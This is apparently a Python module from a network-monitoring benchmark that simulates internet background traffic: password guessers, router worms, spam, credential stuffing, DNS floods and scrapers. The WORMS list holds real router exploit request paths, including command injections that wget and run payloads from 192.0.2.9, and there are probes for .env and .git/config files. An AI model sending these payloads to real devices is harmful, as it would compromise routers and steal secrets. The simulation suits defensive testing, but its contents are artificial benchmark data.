"""What reaches every address with a name: guessers of passwords, worms, spam, abuse, scrapers; each wants one thing only."""

from __future__ import annotations

from bench.access import BROWSERS
from bench.ordinary.accidents import home_v4
from bench.ordinary.actors import Case, third_benign
from bench.ordinary.network import ARTICLES

MAIL_LOGINS = (587, 587, 465, 993, 25)
WORMS = (
    "/boaform/admin/formLogin?username=user&psd=user",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=wget+http://192.0.2.9/Mozi.m;sh+netgear&curpath=/&currentsetting.htm=1",
    "/goform/set_LimitClient_cfg",
    "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp",
)
WORM_AGENTS = ("-", "Hello, world", "Mozila/5.0", "Mozilla/5.0", "curl/7.81.0")
ASKED_FOR = ("/.env", "/.env", "/.git/config")
PROXY_DOORS = (3128, 3128, 3128, 8080, 1080)
CALLERS_PORTS = (5060, 5061, 5070, 5078, 5088)
SPAM_SITES = (
    "https://casino-bonus.example",
    "https://seo-traffic.example",
    "https://pills.example/buy",
    "https://crypto.example/x2",
)
SEARCHED = ("%E3%80%90buy%E3%80%91t.me%2Fshop", "cheap+watches+t.me%2Fdeals", "casino+bonus+https%3A%2F%2Fwin.example",
            "%D0%BA%D1%83%D0%BF%D0%B8%D1%82%D1%8C+%D0%B4%D0%B8%D0%BF%D0%BB%D0%BE%D0%BC", "porn+t.me%2Fxx%F0%9F%94%9E")  # fmt: skip
ONCE = ("/", "/", "/", "/", "/favicon.ico", "/robots.txt", "/sitemap.xml")
ONCE_AGENTS = ("Mozilla/5.0 zgrab/0.x", "-", "Mozilla/5.0", "Mozilla/5.0 (compatible; InternetMeasurement/1.0; +https://internet-measurement.com/)",
               "python-requests/2.31.0", "Go-http-client/1.1", "l9explore/1.2.2", "fasthttp", "Expanse indexes the network perimeters of our customers.")  # fmt: skip
FACETS = ("colour=red", "colour=blue", "size=xl", "size=s", "brand=a", "brand=b", "sale=1", "stock=1", "rating=4")
FALL_BACKS = (139, 135, 445)


@third_benign("ssh-guessers")
def ssh_guessers(case: Case) -> None:
    """Guess passwords at the open SSH: six addresses for hours, a hundred and fifty others a few times each."""
    bastion = case.net.one("bastion")
    for guesser in case.machines(6, "linux"):
        for at in case.paced(80, case.rng.uniform(4, 60), case.moment() * 0.8):
            guesser.connect(at, bastion, 22)
    for guesser in case.machines(150, "linux"):
        for at in case.times(case.rng.choice((1, 2, 3, 5))):
            guesser.connect(at, bastion, 22)


@third_benign("mail-login-guessers")
def mail_login_guessers(case: Case) -> None:
    """Guess mail passwords from a botnet, each address a try or two a day on whatever door takes logins."""
    for bot in case.machines(150):
        for at in case.times(case.rng.choice((1, 2, 4))):
            bot.connect(at, case.net.one("mail"), case.rng.choice(MAIL_LOGINS), patience=1)


@third_benign("blog-login-guessers")
def blog_login_guessers(case: Case) -> None:
    """Guess the password of a blog that is not there: one form and one interface, from a hundred hacked servers."""
    for server in case.machines(100, "linux"):
        for at in case.times(case.rng.choice((1, 1, 2))):
            server.get(at, "/wp-login.php", 404)
            server.get(at + 1, case.rng.choice(("/wp-login.php", "/xmlrpc.php")), 404, method="POST")


@third_benign("router-worms")
def router_worms(case: Case) -> None:
    """Try to spread to a router, once and with one weakness each: hundreds of infected devices, six families."""
    for device in case.machines(350, "small"):
        worm = case.rng.choice(WORMS)
        device.get(
            case.moment(), worm, 404, method="POST" if "goform" in worm else "GET", agent=case.rng.choice(WORM_AGENTS)
        )


@third_benign("secrets-askers")
def secrets_askers(case: Case) -> None:
    """Ask for one forgotten file and go: hundreds of unrelated addresses, no two at the same time, with and without the start page."""
    for bot in case.machines(220, "linux"):
        at = case.moment()
        if case.rng.random() < 0.4:
            bot.get(at, "/")
        bot.get(at + 1, case.rng.choice(ASKED_FOR))


@third_benign("telnet-regulars")
def telnet_regulars(case: Case) -> None:
    """Come back for days to the one or two addresses of ours that a bot's numbers name, always for telnet."""
    hosts = list(case.net.hosts)
    for bot in case.machines(90, "small"):
        host = case.rng.choice(hosts)
        for n, at in enumerate(case.times(case.rng.choice((2, 3, 5, 9)))):
            target = case.rng.choice(hosts) if n == 2 else host
            bot.connect(at, target, 2323 if case.rng.random() < 0.1 else 23, patience=1, seq=home_v4(target))


@third_benign("proxy-believers")
def proxy_believers(case: Case) -> None:
    """Use an open proxy that a public list places at an address of ours: hundreds of programs, some without rest."""
    (listed,) = case.dark(1)
    for n, user in enumerate(case.machines(150)):
        for at in case.times(12 if n < 12 else case.rng.choice((1, 2))):
            user.connect(at, listed, case.rng.choice(PROXY_DOORS), patience=1)


@third_benign("call-fraud")
def call_fraud(case: Case) -> None:
    """Try to place expensive calls through the exchange, with one prefix after the other: five sources, one door."""
    for caller in case.machines(5, "linux"):
        sport = case.rng.choice(CALLERS_PORTS)
        for at in case.paced(90, case.rng.uniform(2, 200), case.moment() * 0.6):
            caller.datagram(at, case.net.one("voice"), 5060, sport, length=case.rng.randrange(790, 860))


@third_benign("spam-runs")
def spam_runs(case: Case) -> None:
    """Deliver spam from a botnet in two waves, to the mail server and to the second one that is long gone."""
    (old,) = case.dark(1)
    for wave in case.times(2, 0.1, 0.85):
        for bot in case.machines(110, "windows"):
            at = wave + case.rng.expovariate(1 / 1_200)
            bot.connect(at, case.net.one("mail"), 25)
            if case.rng.random() < 0.35:
                bot.connect(at + 2, old, 25, patience=1)


@third_benign("forged-questions")
def forged_questions(case: Case) -> None:
    """Make our name server answer a victim: questions forged in its name, dozens in minutes, from one port or from any."""
    for n, victim in enumerate(case.machines(12, "linux")):
        at, sport = case.moment(), case.rng.choice((80, 443, 53))
        for k in range(45):
            victim.datagram(
                at + 3 * k * case.rng.uniform(0.9, 1.1), case.net.one("dns"), 53, sport if n % 2 else None, length=64
            )


@third_benign("water-torture")
def water_torture(case: Case) -> None:
    """Ask our name server for names made up at random, by way of many resolvers that know no better."""
    at = case.moment() * 0.95
    for resolver in case.machines(90, "linux"):
        for _ in range(case.rng.randint(2, 9)):
            resolver.datagram(
                at + case.rng.uniform(0, 2_400), case.net.one("dns"), 53, length=case.rng.randrange(70, 92)
            )


@third_benign("spam-referers")
def spam_referers(case: Case) -> None:
    """Read a page or two to leave the address of a shop in our statistics."""
    for bot in case.machines(70):
        at = case.moment()
        for n in range(case.rng.choice((1, 1, 2, 3))):
            bot.get(at + 40 * n, case.rng.choice(("/", *ARTICLES[:30])), referer=case.rng.choice(SPAM_SITES))


@third_benign("comment-spam")
def comment_spam(case: Case) -> None:
    """Leave comments below the same dozen pages: the form is fetched and sent, where there is none as well."""
    pages = case.rng.sample(ARTICLES, 12)
    for bot in case.machines(45):
        for at in case.times(case.rng.choice((1, 1, 2, 4))):
            page = case.rng.choice(pages)
            bot.get(at, page)
            bot.get(
                at + 2,
                f"{page}/comments",
                case.rng.choice((403, 404, 404)),
                method="POST",
                referer=f"https://www.example.org{page}",
            )


@third_benign("start-page-once")
def start_page_once(case: Case) -> None:
    """Look at the start page once and never come back: measurers, monitors and bots with all sorts of names."""
    for visitor in case.machines(300, "linux"):
        at = case.moment()
        if case.rng.random() < 0.5:
            visitor.connect(at - 5, case.net.one("web"), 80)
        visitor.get(at, case.rng.choice(ONCE), agent=case.rng.choice((*ONCE_AGENTS, *BROWSERS[:4])))


@third_benign("login-stuffing")
def login_stuffing(case: Case) -> None:
    """Try stolen passwords at the login from two hundred homes, a pair or two each, in one evening."""
    begin = case.moment() * 0.9
    for home in case.machines(200):
        at = begin + case.rng.uniform(0, 9_000)
        home.get(at, "/login")
        for n in range(case.rng.choice((1, 1, 2))):
            home.get(at + 2 + 3 * n, "/login", 401, method="POST", referer="https://www.example.org/login")


@third_benign("cache-busting-flood")
def cache_busting_flood(case: Case) -> None:
    """Flood the start page past all caches: a parameter made up for each request, from sixty addresses for three minutes."""
    begin = case.moment()
    for bot in case.machines(60):
        for n in range(10):
            name, value = case.rng.getrandbits(20), case.rng.getrandbits(32)
            bot.get(begin + 18 * n + 15 * case.rng.random(), f"/?{name:05x}={value:08x}", 200 if n < 4 else 503)


@third_benign("search-spam")
def search_spam(case: Case) -> None:
    """Search the site for advertisements, in the hope that the page of results is indexed."""
    for bot in case.machines(60, "linux"):
        for at in case.times(case.rng.choice((1, 2, 3))):
            bot.get(at, f"/search?q={case.rng.choice(SEARCHED)}{case.rng.randrange(999)}", 200)


@third_benign("scrapers-home-addresses")
def scrapers_home_addresses(case: Case) -> None:
    """Scrape the shop through the connections of hundreds of homes: a deep combination of filters each, some that were never there."""
    for home in case.machines(420):
        at = case.moment()
        for n in range(case.rng.choice((1, 1, 1, 2))):
            filters = "&".join(case.rng.sample(FACETS, case.rng.randint(2, 5)))
            home.get(
                at + 3 * n,
                f"/products/list?page={case.rng.randrange(1, 60)}&{filters}",
                case.rng.choice((200, 200, 200, 404)),
            )


@third_benign("windows-worm-remains")
def windows_worm_remains(case: Case) -> None:
    """Spread like a worm of 2017 that nobody cleaned up: each machine asks the few addresses that its generator repeats for SMB."""
    hosts = list(case.net.hosts)
    for machine in case.machines(40, "windows"):
        for host in case.rng.sample(hosts, min(case.rng.choice((1, 2)), len(hosts))):
            for at in case.times(case.rng.choice((1, 3))):
                machine.connect(at, host, 445, patience=2)
                if case.rng.random() < 0.3:
                    machine.connect(at + 22, host, case.rng.choice(FALL_BACKS), patience=1)
